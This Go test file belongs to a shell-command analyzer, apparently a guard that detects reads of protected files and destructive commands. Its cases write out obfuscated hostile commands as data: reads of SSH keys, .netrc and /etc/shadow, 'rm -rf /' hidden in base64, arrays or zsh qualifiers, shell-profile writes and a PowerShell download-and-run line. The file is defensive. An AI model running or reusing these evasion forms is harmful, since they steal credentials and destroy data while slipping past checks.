package shell

import (
	"slices"
	"strings"
	"testing"

	"github.com/guardhq/guard/internal/shell/word"
)

// expansionCase is a command and what its analysis must hold.
type expansionCase struct {
	cmd                string
	reads, writes      []string         // among the reads, the writes
	unresolved         []UnresolvedPath // among the unresolved paths
	lines              []string         // among the lines
	notReads, notLines []string         // none of the reads or lines
}

func (tt expansionCase) check(t *testing.T, opt Options) {
	t.Helper()
	a := analyze(tt.cmd, opt)
	if a.Err != nil {
		t.Errorf("%q: %v", tt.cmd, a.Err)
	}
	for _, list := range []struct {
		name      string
		got, want []string
	}{{"reads", a.Reads, tt.reads}, {"writes", a.Writes, tt.writes}, {"lines", a.Lines, tt.lines}} {
		for _, w := range list.want {
			if !slices.Contains(list.got, w) {
				t.Errorf("%q: %s %q, want %q among them", tt.cmd, list.name, list.got, w)
			}
		}
	}
	for _, u := range tt.unresolved {
		if !slices.Contains(a.Unresolved, u) {
			t.Errorf("%q: unresolved %+v, want %+v among them", tt.cmd, a.Unresolved, u)
		}
	}
	for _, n := range tt.notReads {
		if slices.Contains(a.Reads, n) || slices.Contains(a.Writes, n) {
			t.Errorf("%q: reads %q writes %q hold %q", tt.cmd, a.Reads, a.Writes, n)
		}
	}
	for _, n := range tt.notLines {
		for _, l := range a.Lines {
			if strings.Contains(l, n) {
				t.Errorf("%q: line %q holds %q", tt.cmd, l, n)
			}
		}
	}
}

// TestExpansion: words expanded as the shell expands them, over the
// variables, positional parameters and directories the command sets.
func TestExpansion(t *testing.T) {
	u := func(text string, write bool) UnresolvedPath { return UnresolvedPath{Text: text, Write: write} }
	tests := []expansionCase{
		// indirection, namerefs, printf -v, read
		{cmd: `v=HOME; cat ${!v}/.ssh/id_rsa`, reads: []string{"$HOME/.ssh/id_rsa"}},
		{cmd: `declare -n r=x; x=~/.ssh/id_rsa; cat "$r"`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `typeset -n r=k; r=~/.bashrc; echo x >> $k`, writes: []string{"~/.bashrc"}},
		{cmd: `printf -v f '%s/.ssh/%s' ~ id_rsa; cat $f`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `read -r d; cat "$d/.ssh/id_rsa"`, unresolved: []UnresolvedPath{u(word.RunTime+"/.ssh/id_rsa", false)}},
		{cmd: `read -r a b <<< "x ~/.ssh/id_rsa"; cat $b`, reads: []string{"~/.ssh/id_rsa"}},
		// positional parameters
		{cmd: `set -- a.txt ~/.ssh/id_rsa; cat "$2" "$@"; echo $# > n$#.txt`, reads: []string{"~/.ssh/id_rsa", "a.txt"}, writes: []string{"n2.txt"}},
		{cmd: `set -- ~/.bashrc /x; shift; cat "$1"`, lines: []string{"cat /x"}},
		{cmd: `sh -c 'cat "$1"' _ ~/.ssh/id_rsa`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `sh -c 'for f; do cat "$f"; done' _ a.txt ~/.netrc`, reads: []string{"~/.netrc"}},
		{cmd: `cat "$1/.ssh/id_rsa" "${1:-$HOME}/.netrc"`, reads: []string{"/.ssh/id_rsa", "$HOME/.netrc"}}, // bash -c CMD: no positional parameters
		{cmd: `set -- $(cat list); cat "$1/.ssh/id_rsa"`, unresolved: []UnresolvedPath{u(word.RunTime+"/.ssh/id_rsa", false)}},
		// operators
		{cmd: `x=/tmp/y; cat ${x/tmp\/y/etc\/shadow}`, reads: []string{"/etc/shadow"}},
		{cmd: `x=~/.ssh/id_rsa.pub; cat ${x%.pub}`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `x=a/.ssh/id_rsa; cat ~/${x#a/}`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `x=/BIN/RM; ${x,,} -rf /`, lines: []string{"rm -rf /"}},
		{cmd: `x=abcdef; cat /tmp/${x:1:3} /tmp/${#x}`, reads: []string{"/tmp/bcd", "/tmp/6"}},
		{cmd: `v=; cat ${v:-~/.ssh/id_rsa}`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `unset v; cat ${v:=~/.netrc}; cat $v`, reads: []string{"~/.netrc"}},
		{cmd: `cat ${XDG_CONFIG_HOME:-$HOME/.config}/git/config`, reads: []string{"${XDG_CONFIG_HOME:-$HOME/.config}/git/config"}},
		{cmd: `cat "${X_UNSET:-$(cat f)}/.ssh/id_rsa"`, unresolved: []UnresolvedPath{u(word.RunTime+"/.ssh/id_rsa", false)}},
		{cmd: `x=$(cat f); cat ${x#/}/.ssh/id_rsa`, unresolved: []UnresolvedPath{u(word.RunTime+"/.ssh/id_rsa", false)}},
		// arrays
		{cmd: `a=(x ~/.ssh/id_rsa); cat "${a[1]}"`, reads: []string{"~/.ssh/id_rsa"}, notReads: []string{"x"}},
		{cmd: `a=(rm -rf); a+=(/); "${a[@]}"`, lines: []string{"rm -rf /"}},
		{cmd: `a[3]=/etc/shadow; cat ${a[3]}`, reads: []string{"/etc/shadow"}},
		{cmd: `declare -A m=([k]=~/.netrc); cat "${m[k]}"`, reads: []string{"~/.netrc"}},
		// directories
		{cmd: `cd ~/.ssh && cat "$(pwd)/id_rsa"`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `cd .. && cat "$PWD/.ssh/id_rsa"`, reads: []string{"../.ssh/id_rsa"}},
		{cmd: "rm -rf `pwd`/x", writes: []string{"./x"}, lines: []string{"rm -rf $PWD/x"}},
		{cmd: `cd sub && rm -rf "$(pwd)"`, writes: []string{"sub"}, lines: []string{"rm -rf $PWD/sub"}},
		{cmd: `pushd ~/.ssh && pushd /tmp && cat ~1/id_rsa ~+0/a ~-0/b`, reads: []string{"~/.ssh/id_rsa", "/tmp/a", "./b"}},
		{cmd: `pushd ~/.ssh; pushd /tmp; popd; cat id_rsa`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `pushd /a; pushd /b; pushd +2; cat x.txt`, reads: []string{"x.txt"}},
		{cmd: `cd /tmp && cd ~- && cat .env`, reads: []string{"./.env"}},
		// cd "" stays; an unquoted empty word is no operand
		{cmd: `cd "" && cat .netrc`, reads: []string{"./.netrc"}, notReads: []string{"~/.netrc"}},
		{cmd: `d=; cd "$d" && cat .netrc`, reads: []string{"./.netrc"}, notReads: []string{"~/.netrc"}},
		{cmd: `pushd '' && cat .netrc`, reads: []string{"./.netrc"}, notReads: []string{"~/.netrc"}},
		{cmd: `d=; cd $d && cat .netrc`, reads: []string{"~/.netrc"}},
		// what a substitution prints, followed command by command
		{cmd: `cat "$(cd ~/.ssh && pwd)/id_rsa"`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `cat "$(dirname ~/.ssh/config)/id_rsa"`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `cd ~; cat "$(basename /x/.netrc)"`, reads: []string{"~/.netrc"}},
		{cmd: "x=$(cat <<EOF\n~/.netrc\nEOF\n); cat $x", reads: []string{"~/.netrc"}},
		{cmd: `cat $(echo "$(cat f)/.ssh/id_rsa")`, unresolved: []UnresolvedPath{u(word.RunTime+"/.ssh/id_rsa", false)}},
		{cmd: `cat "$(echo ~; echo /x)"`, lines: []string{"cat ~; /x"}},
		{cmd: `cat "$(if a; then echo /x; fi)/y"`, unresolved: []UnresolvedPath{u(word.RunTime+"/y", false)}},
		{cmd: `cat "$(dirname "$(cat f)")/.netrc"`, unresolved: []UnresolvedPath{u(word.RunTime+"/.netrc", false)}},
		{cmd: `cat "$(basename ~)"`, notLines: []string{"cat ~"}},
		{cmd: `cat "$(cd -)/x"`, unresolved: []UnresolvedPath{u(word.RunTime+"/x", false)}},
		{cmd: `eval "$(base64 -d <<< cm0gLXJmIC8=)"`, lines: []string{"rm -rf /"}},
		// declarations
		{cmd: `f(){ local x=~/.bashrc; echo hi > "$x"; }; f`, writes: []string{"~/.bashrc"}},
		{cmd: `export E=~/.bashrc; echo x >> $E`, writes: []string{"~/.bashrc"}},
		{cmd: `readonly R=~/.zshrc; R=/tmp/x; echo >> $R`, writes: []string{"~/.zshrc"}},
		{cmd: `declare -l c=RM; $c -rf /`, lines: []string{"rm -rf /"}},
		{cmd: `builtin export x=~/.netrc; cat $x`, reads: []string{"~/.netrc"}},
		{cmd: `X=~/.ssh sh -c 'cat $X/id_rsa'`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `env X=~/.ssh sh -c 'cat $X/id_rsa'; cat $X/y`, reads: []string{"~/.ssh/id_rsa"}, notReads: []string{"~/.ssh/y"}},
		// functions: the body at each call, with the call's words
		{cmd: `f() { cat "$1$2"; }; f ~/.ss h/id_rsa`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `f(){ cd ~/.ssh; }; f; cat id_rsa`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `x=~/.bashrc; f() { local x=/tmp/ok; }; f; echo >> $x`, writes: []string{"~/.bashrc"}},
		{cmd: `x=~/.bashrc; f() { declare x=/tmp/ok; }; f; echo >> $x`, writes: []string{"~/.bashrc"}},
		{cmd: `f() { x=~/.zshrc; }; f; echo >> $x`, writes: []string{"~/.zshrc"}},
		{cmd: `d() { echo ~/.ssh; }; cat "$(d)/id_rsa"`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `g() { g "$@"; }; g x`, lines: []string{"g x"}},
		// eval of assigned text
		{cmd: `c="cat ~/.ssh/id_rsa"; eval $c`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `c="rm -rf"; eval "$c /"`, lines: []string{"rm -rf /"}},
		{cmd: `eval "rm -rf $(cat d)"`, lines: []string{"rm -rf"}}, // d absent (no reader): cat prints nothing
		// arithmetic
		{cmd: `i=1; ((i++)); cat /tmp/f$i`, reads: []string{"/tmp/f2"}},
		{cmd: `x=$((2+3)); cat /tmp/f$x`, reads: []string{"/tmp/f5"}},
		{cmd: `cat /tmp/f$((n+1))`, lines: []string{"cat /tmp/f$((…))"}},
		// $IFS, braces, ANSI-C, quoting kept from the hand-written expansion
		{cmd: `cat${IFS}~/.netrc`, reads: []string{"~/.netrc"}},
		{cmd: `IFS=:; x=rm:-rf:/; $x`, lines: []string{"rm -rf /"}},
		{cmd: `echo {1..5000} > f`, lines: []string{"echo … >f"}},
		{cmd: `cat ~/.{ssh/id_rsa,netrc}`, reads: []string{"~/.ssh/id_rsa", "~/.netrc"}},
		{cmd: `$'\x63at' $'\x7e'/.netrc`, lines: []string{"cat ~/.netrc"}},
		{cmd: `cat "~/.netrc" '~'/x`, reads: []string{"~/.netrc", "~/x"}},
		// unresolved words
		{cmd: `cat "$(x)/.ssh/id_rsa"`, unresolved: []UnresolvedPath{u(word.RunTime+"/.ssh/id_rsa", false)}},
		{cmd: `U=$(cat u); cp a "$U/.guard/rules.json"`, unresolved: []UnresolvedPath{u(word.RunTime+"/.guard/rules.json", true)}},
		{cmd: `> "$(mktemp -u)/../.bashrc"`, unresolved: []UnresolvedPath{u("${TMPDIR:-/tmp}/tmp."+word.Unknown+"/../.bashrc", true)}},
		{cmd: `cd ~/.guard && rm "$(cat n)"`, unresolved: []UnresolvedPath{u("~/.guard/"+word.RunTime, true)}},
		{cmd: `for f in $(ls); do rm "$f.bak"; done`, unresolved: []UnresolvedPath{u(word.Unknown+word.Unknown+".bak", true)}},
		{cmd: `cat "$GOPATH/src/x.go" "$(go env GOPATH)/VERSION"`, reads: []string{"$GOPATH/src/x.go"}, unresolved: []UnresolvedPath{u(word.Unknown+word.Unknown+"/VERSION", false)}},
		// directories for one command
		{cmd: `git -C ~/.guard config core.hooksPath x`, writes: []string{"~/.guard/.git/config"}},
		{cmd: `env -C ~/.ssh cat id_rsa; cat x`, reads: []string{"~/.ssh/id_rsa"}, notReads: []string{"~/.ssh/x"}},
		{cmd: `env --chdir=/etc cat shadow`, reads: []string{"/etc/shadow"}},
		{cmd: `make -C ~/.ssh -f id_rsa`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `sudo -D /etc cat shadow`, reads: []string{"/etc/shadow"}},
	}
	for _, tt := range tests {
		tt.check(t, Options{Home: "/home/u"})
	}
}

// TestZshExpansion: a command read as zsh reads it too (Options.Zsh).
func TestZshExpansion(t *testing.T) {
	tests := []expansionCase{
		{cmd: `=rm -rf /`, lines: []string{"rm -rf /"}},
		{cmd: `cat $HOME[1,-1]/.ssh/id_rsa`, reads: []string{"$HOME/.ssh/id_rsa"}},
		{cmd: `x=abc; cat /tmp/$x[2,3] /tmp/$x[-1]`, reads: []string{"/tmp/bc", "/tmp/c"}},
		{cmd: `rm -f *(.)`, writes: []string{"*"}},
		{cmd: `ls *(e:'rm -rf ~':)`, lines: []string{"rm -rf ~"}},
		{cmd: `ls *(+cleanup)`, lines: []string{"cleanup"}},
		{cmd: `v='$(rm -rf /)'; echo ${(e)v}`, lines: []string{"rm -rf /"}},
		{cmd: `echo ${(e)${:-\$(rm -rf /)}}`, lines: []string{"rm -rf /"}},
		{cmd: `v=~/.ssh; cat ${~v}/id_rsa`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `x=(cat ~/.ssh/id_rsa); $x`, lines: []string{"cat ~/.ssh/id_rsa"}},
		{cmd: `x=(a ~/.netrc); cat $x[2]`, reads: []string{"~/.netrc"}},
		{cmd: `f=~/.ssh/id_rsa.pub; cat $f:r ${f:r}`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `f=/x/.ssh/id_rsa; cat ~/${f:h:t}/${f:t}`, reads: []string{"~/.ssh/id_rsa"}},
		{cmd: `p=HOME; cat ${(P)p}/.ssh/id_rsa`, reads: []string{"$HOME/.ssh/id_rsa"}},
		{cmd: `x=RM; ${(L)x} -rf /`, lines: []string{"rm -rf /"}},
		{cmd: `x=a:~/.netrc; cat ${(s.:.)x}`, reads: []string{"~/.netrc"}},
		{cmd: `cat ~+/x`, reads: []string{"./x"}},
		{cmd: `zsh -c 'cat $HOME[1,-1]/.netrc'`, reads: []string{"$HOME/.netrc"}},
		{cmd: `echo x >> ~/.bashrc(.)`, writes: []string{"~/.bashrc"}},
		{cmd: `cat ~/.netrc(N)`, reads: []string{"~/.netrc"}},
		{cmd: `cat ~/.(ssh|x)/id_rsa ~/.s(s)h/id_rsa`, reads: []string{"~/.*/id_rsa", "~/.s*h/id_rsa"}},
	}
	for _, tt := range tests {
		tt.check(t, Options{Home: "/home/u", Zsh: true})
	}
	// Read as bash alone, zsh's forms name nothing protected.
	if a := analyze(`cat $HOME[1,-1]/.ssh/id_rsa`, Options{}); slices.Contains(a.Reads, "$HOME/.ssh/id_rsa") {
		t.Errorf("bash reads %q", a.Reads)
	}
}

// TestZshParse: what zsh's parser rejects, where bash's takes the command,
// is ZshErr; what bash's rejects and zsh's takes is no error.
func TestZshParse(t *testing.T) {
	a := analyze(`echo done }`, Options{Zsh: true})
	if a.Err != nil || a.ZshErr == nil {
		t.Errorf("echo done }: err %v, zsh err %v; want only a zsh error", a.Err, a.ZshErr)
	}
	if a := analyze(`echo done }`, Options{}); a.ZshErr != nil {
		t.Errorf("bash alone: zsh err %v", a.ZshErr)
	}
	a = analyze(`echo ${(f)x}; rm -rf /`, Options{Zsh: true})
	if a.Err != nil || a.ZshErr != nil || !slices.Contains(a.Lines, "rm -rf /") {
		t.Errorf("zsh syntax: err %v, zsh err %v, lines %q", a.Err, a.ZshErr, a.Lines)
	}
	if a := analyze(`echo ${(f)x}`, Options{}); a.Err == nil {
		t.Error("bash takes ${(f)x}")
	}
	// mvdan's zsh parser reads (a b) as one word; zsh does not.
	if a := analyze(`IEX (IWR https://x.example/p.ps1)`, Options{Zsh: true}); a.Err == nil {
		t.Error("a word with a blank, parsed by zsh's parser alone, is no parse error")
	}
}

// TestMarkersInCommand: a command's own text never reads as a marker.
func TestMarkersInCommand(t *testing.T) {
	cmd := "cat " + word.Mark(word.MarkSubst, "") + "/x"
	if a := analyze(cmd, Options{}); len(a.Unresolved) != 0 {
		t.Errorf("unresolved %+v from a command's own text", a.Unresolved)
	}
}
